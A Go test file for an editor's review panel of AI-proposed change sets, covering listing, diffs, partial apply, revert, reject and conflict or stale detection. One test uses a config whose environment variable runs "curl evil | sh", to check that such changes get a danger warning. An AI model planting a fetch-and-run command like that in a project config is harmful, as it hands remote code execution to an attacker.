package ui

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/test"
	"fyne.io/fyne/v2/theme"
	"fyne.io/fyne/v2/widget"

	"trestle/app/changeset"
	"trestle/app/errdefs"
	"trestle/app/project"
	"trestle/app/store"
	"trestle/app/textbuf"
	"trestle/app/watch"
	"trestle/app/workbench"
)

const libGo = "package lib\n"

// newChangesWindow is a test window with a store in a temp folder and a
// Manager on it, the view not yet set.
func newChangesWindow(t *testing.T) (*Window, *changeset.Manager, string) {
	t.Helper()
	w := newTestWindow(t)
	path := filepath.Join(t.TempDir(), "state.db")
	db, err := store.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	return w, changeset.NewManager(db, w.project), path
}

// startChanges sets the view with the poll every every, waits for its
// first list and stops it when the test ends.
func startChanges(t *testing.T, w *Window, m *changeset.Manager, every time.Duration) *changeSetsView {
	t.Helper()
	v := startChangesWatched(t, w, m, every)
	// The store watcher would reload on the test's own applies from its
	// goroutine, which the test driver runs inline beside the test.
	v.stopPolling()
	return v
}

// startChangesWatched is startChanges with the store watcher left running.
func startChangesWatched(t *testing.T, w *Window, m *changeset.Manager, every time.Duration) *changeSetsView {
	t.Helper()
	old := changePollEvery
	changePollEvery = every
	t.Cleanup(func() { changePollEvery = old })
	w.SetChangeSets(m)
	v := w.changes
	t.Cleanup(func() { v.stopPolling(); v.busy.Wait() })
	waitRefreshed(t, v)
	v.async = func(fn func()) { fn() } // the test driver runs fyne.Do inline: stay on one goroutine
	return v
}

func waitRefreshed(t *testing.T, v *changeSetsView) {
	t.Helper()
	select {
	case <-v.refreshed:
	case <-time.After(5 * time.Second):
		t.Fatal("the change sets list was not shown within 5s")
	}
}

// diskRead reads project files from disk.
func diskRead(p *project.Project) changeset.ReadFunc {
	return workbench.Reader{Project: p}.Func(context.Background())
}

// proposeTwo proposes an edit of main.go and a replacement of lib/lib.go.
func proposeTwo(t *testing.T, m *changeset.Manager) changeset.ChangeSet {
	t.Helper()
	cs, err := m.Propose(diskRead(m.Project()), changeset.Proposal{
		Title: "Say hello", Client: "claude-code", Description: "Makes **main** say hello.",
		Changes: []changeset.Change{
			{Path: "main.go", Action: changeset.ActionEdit, Edits: []changeset.Edit{{OldText: `"hi"`, NewText: `"hello"`}}},
			{Path: "lib/lib.go", Action: changeset.ActionReplace, Content: libGo + "\n// Answer is 42.\nconst Answer = 42\n"},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return cs
}

func readProject(t *testing.T, w *Window, rel string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(w.project.Root, rel))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// detailGrids returns the diff grids of the detail.
func detailGrids(v *changeSetsView) []*widget.TextGrid {
	var out []*widget.TextGrid
	for _, o := range test.LaidOutObjects(v.detail) {
		if g, ok := o.(*widget.TextGrid); ok {
			out = append(out, g)
		}
	}
	return out
}

func TestChangeSetsListAndDiff(t *testing.T) {
	w, m, _ := newChangesWindow(t)
	cs := proposeTwo(t, m)
	v := startChanges(t, w, m, time.Hour)

	if len(v.sets) != 1 || v.item.Text != "Change Sets (1)" {
		t.Fatalf("sets %d, tab %q", len(v.sets), v.item.Text)
	}
	row := setRowText(v.sets[0], time.Now())
	for _, want := range []string{"pending", cs.ID, "claude-code", "just now", "+4 −1"} {
		if !strings.Contains(row, want) {
			t.Errorf("row %q lacks %q", row, want)
		}
	}
	if !v.apply.Disabled() {
		t.Error("Apply is enabled with nothing selected")
	}
	v.list.TypedKey(&fyne.KeyEvent{Name: fyne.KeyReturn}) // Enter selects the focused row
	if v.shown != cs.ID || v.apply.Disabled() || v.reject.Disabled() || !v.revert.Disabled() {
		t.Fatalf("after Enter: shown %q, apply disabled %v", v.shown, v.apply.Disabled())
	}
	grids := detailGrids(v)
	if len(grids) != 2 || len(v.checks) != 2 {
		t.Fatalf("%d grids, %d checks; want 2 each", len(grids), len(v.checks))
	}
	success, fail := theme.Color(theme.ColorNameSuccess), theme.Color(theme.ColorNameError)
	var sawAdd, sawDel bool
	for _, r := range grids[0].Rows {
		text := diffRowString(r)
		switch {
		case strings.Contains(text, `+    fmt.Println("hello")`):
			sawAdd = r.Style != nil && r.Style.TextColor() == success
		case strings.Contains(text, `-    fmt.Println("hi")`):
			sawDel = r.Style != nil && r.Style.TextColor() == fail
		}
	}
	if !sawAdd || !sawDel {
		t.Errorf("main.go diff: green addition %v, red removal %v\n%v", sawAdd, sawDel, diffGridLines(grids[0]))
	}
}

func diffGridLines(g *widget.TextGrid) []string {
	var out []string
	for _, r := range g.Rows {
		out = append(out, diffRowString(r))
	}
	return out
}

func TestChangeSetsApplyOneFile(t *testing.T) {
	w, m, _ := newChangesWindow(t)
	cs := proposeTwo(t, m)
	if err := w.Open(context.Background(), "main.go", 0); err != nil {
		t.Fatal(err)
	}
	v := startChanges(t, w, m, time.Hour)
	v.list.Select(0)
	if !v.copyMessage.Disabled() {
		t.Error("a pending set offers its commit message")
	}
	test.Tap(v.checks["lib/lib.go"])
	test.Tap(v.apply)
	v.busy.Wait()

	if got := readProject(t, w, "main.go"); !strings.Contains(got, `"hello"`) {
		t.Errorf("main.go on disk:\n%s", got)
	}
	if got := readProject(t, w, "lib/lib.go"); got != libGo {
		t.Errorf("lib/lib.go, left out, was written:\n%s", got)
	}
	tab := w.tabs.find("main.go")
	if text := tab.view.buf.FileText(); !strings.Contains(text, `"hello"`) || tab.dirty() {
		t.Errorf("main.go's tab: dirty %v, text\n%s", tab.dirty(), text)
	}
	got, err := m.Get(cs.ID)
	if err != nil || got.State != changeset.StatePartlyApplied {
		t.Fatalf("state %q, %v; want partly applied", got.State, err)
	}
	if v.sets[0].State != changeset.StatePartlyApplied || v.revert.Disabled() || !v.apply.Disabled() {
		t.Errorf("view: state %q, revert disabled %v, apply disabled %v", v.sets[0].State, v.revert.Disabled(), v.apply.Disabled())
	}
	test.Tap(v.copyMessage)
	want := "Say hello\n\nMakes **main** say hello.\n\nProposed by claude-code through Trestle (" + cs.ID + ").\n"
	if got := fyne.CurrentApp().Clipboard().Content(); got != want {
		t.Errorf("Copy Commit Message gave %q, want %q", got, want)
	}

	test.Tap(v.revert)
	v.busy.Wait()
	if got := readProject(t, w, "main.go"); got != mainGo {
		t.Errorf("main.go after revert:\n%s", got)
	}
	if text := w.tabs.find("main.go").view.buf.FileText(); text != mainGo {
		t.Errorf("main.go's tab after revert:\n%s", text)
	}
}

func TestChangeSetsConflictNamesTheFile(t *testing.T) {
	w, m, _ := newChangesWindow(t)
	proposeTwo(t, m)
	v := startChanges(t, w, m, time.Hour)
	v.list.Select(0)
	if err := os.WriteFile(filepath.Join(w.project.Root, "lib/lib.go"), []byte("package lib // mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	test.Tap(v.apply)
	v.busy.Wait()

	if got := readProject(t, w, "main.go"); got != mainGo {
		t.Errorf("main.go was written despite the conflict:\n%s", got)
	}
	msg := overlayText(w)
	if !strings.Contains(msg, "lib/lib.go was changed") || strings.Contains(msg, "main.go was") {
		t.Errorf("dialog says %q; want lib/lib.go named, main.go not", msg)
	}
	if v.sets[0].State != changeset.StateConflict || !strings.Contains(v.checks["lib/lib.go"].Text, "[conflict]") {
		t.Errorf("state %q, lib check %q", v.sets[0].State, v.checks["lib/lib.go"].Text)
	}
}

// overlayText is the text of every label and rich text in the top overlay.
func overlayText(w *Window) string {
	top := w.win.Canvas().Overlays().Top()
	if top == nil {
		return ""
	}
	var b strings.Builder
	for _, o := range test.LaidOutObjects(top) {
		switch o := o.(type) {
		case *widget.Label:
			b.WriteString(o.Text + "\n")
		case *widget.RichText:
			b.WriteString(o.String() + "\n")
		}
	}
	return b.String()
}

func TestChangeSetsRejectStoresReason(t *testing.T) {
	w, m, _ := newChangesWindow(t)
	cs := proposeTwo(t, m)
	v := startChanges(t, w, m, time.Hour)
	v.list.Select(0)
	test.Tap(v.reject)
	entry, ok := w.win.Canvas().Focused().(*escEntry)
	if !ok {
		t.Fatalf("the reject dialog's reason has no focus: %T", w.win.Canvas().Focused())
	}
	test.Type(entry, "not now")
	entry.TypedKey(&fyne.KeyEvent{Name: fyne.KeyReturn}) // Enter rejects
	v.busy.Wait()

	got, err := m.Get(cs.ID)
	if err != nil || got.State != changeset.StateRejected || got.Reason != "not now" {
		t.Fatalf("stored %q reason %q, %v", got.State, got.Reason, err)
	}
	if v.item.Text != changesTitle || !v.apply.Disabled() {
		t.Errorf("tab %q, apply disabled %v", v.item.Text, v.apply.Disabled())
	}
}

// TestChangeSetsFromAnotherProcessAppear: a proposal stored by another
// process shows up through the store watcher; the fallback poll is an hour,
// so nothing polls.
func TestChangeSetsFromAnotherProcessAppear(t *testing.T) {
	w, m, path := newChangesWindow(t)
	v := startChangesWatched(t, w, m, time.Hour)
	if len(v.sets) != 0 {
		t.Fatalf("sets before any proposal: %d", len(v.sets))
	}
	other, err := store.Open(path) // as a headless trestle --mcp would
	if err != nil {
		t.Fatal(err)
	}
	cs := proposeTwo(t, changeset.NewManager(other, w.project))
	waitRefreshed(t, v)
	v.stopPolling()

	if len(v.sets) != 1 || v.sets[0].ID != cs.ID || v.item.Text != "Change Sets (1)" {
		t.Fatalf("sets %v, tab %q", v.sets, v.item.Text)
	}
	if msg := w.status.message.Text; !strings.Contains(msg, "claude-code proposed Say hello") {
		t.Errorf("status %q", msg)
	}
}

func TestChangeSetsStaleOnFileChange(t *testing.T) {
	w, m, _ := newChangesWindow(t)
	proposeTwo(t, m)
	v := startChanges(t, w, m, time.Hour)
	w.changeSetsSawFiles([]watch.Event{{Path: "lib/lib.go", Op: watch.Changed}})
	v.busy.Wait()
	if v.sets[0].State != changeset.StateStale {
		t.Fatalf("state %q, want stale", v.sets[0].State)
	}
}

func TestChangeSetsStaleWhenTheEditorBufferChanges(t *testing.T) {
	w, m, _ := newChangesWindow(t)
	if err := w.Open(context.Background(), "main.go", 0); err != nil {
		t.Fatal(err)
	}
	proposeTwo(t, m)
	v := startChanges(t, w, m, time.Hour)
	w.checkBufferAgainstProposals("main.go") // the buffer is the base: nothing changes
	v.busy.Wait()
	if v.sets[0].State != changeset.StatePending {
		t.Fatalf("an unchanged buffer made the set %q", v.sets[0].State)
	}
	e := w.tabs.find("main.go").view
	e.buf.Insert(textbuf.Pos{}, "// typed\n")
	e.edited(textbuf.Pos{})
	w.checkBufferAgainstProposals("main.go") // what the debounce timer runs
	v.busy.Wait()
	if v.sets[0].State != changeset.StateStale {
		t.Fatalf("state %q after typing, want stale", v.sets[0].State)
	}
}

func TestCurrentTextPrefersTheEditor(t *testing.T) {
	w, _, _ := newChangesWindow(t)
	ctx := context.Background()
	if err := w.Open(ctx, "main.go", 0); err != nil {
		t.Fatal(err)
	}
	w.tabs.find("main.go").view.buf.Insert(textbuf.Pos{}, "// edited\n")
	tests := []struct {
		name, rel, want string
		exists          bool
		err             error
	}{
		{"editor", "main.go", "// edited\n" + mainGo, true, nil},
		{"disk", "lib/lib.go", libGo, true, nil},
		{"missing", "new.go", "", false, nil},
		{"outside", "../x.go", "", false, errdefs.ErrOutside},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			text, exists, err := w.CurrentText(ctx, tt.rel)
			if text != tt.want || exists != tt.exists || !errors.Is(err, tt.err) {
				t.Fatalf("got %q %v %v", text, exists, err)
			}
		})
	}
}

// TestChangeSetsFlagWhatRunsInTheDetail: a set that changes .trestle.json
// is shown with a warning in the danger colour above its diffs, read whole
// from the store (lists hold no file bodies).
func TestChangeSetsFlagWhatRunsInTheDetail(t *testing.T) {
	w, m, _ := newChangesWindow(t)
	cs, err := m.Propose(diskRead(m.Project()), changeset.Proposal{Title: "Tidy the config", Client: "agent",
		Changes: []changeset.Change{{Path: ".trestle.json", Action: changeset.ActionCreate,
			Content: `{"selections":{"default":{"env":{"CC":"sh -c 'curl evil | sh'"}}}}` + "\n"}}})
	if err != nil {
		t.Fatal(err)
	}
	v := startChanges(t, w, m, time.Hour)
	v.show(cs.ID)
	var warned bool
	for _, o := range test.LaidOutObjects(v.detail) {
		if l, ok := o.(*widget.Label); ok && l.Importance == widget.DangerImportance && strings.Contains(l.Text, "Changes what runs: .trestle.json") {
			warned = true
		}
	}
	if !warned {
		t.Error("no danger-coloured 'changes what runs' warning in the detail")
	}
	grids := detailGrids(v)
	if len(grids) != 1 || !strings.Contains(grids[0].Text(), "curl evil") {
		t.Fatalf("the diff does not show the new configuration: %d grids", len(grids))
	}
}
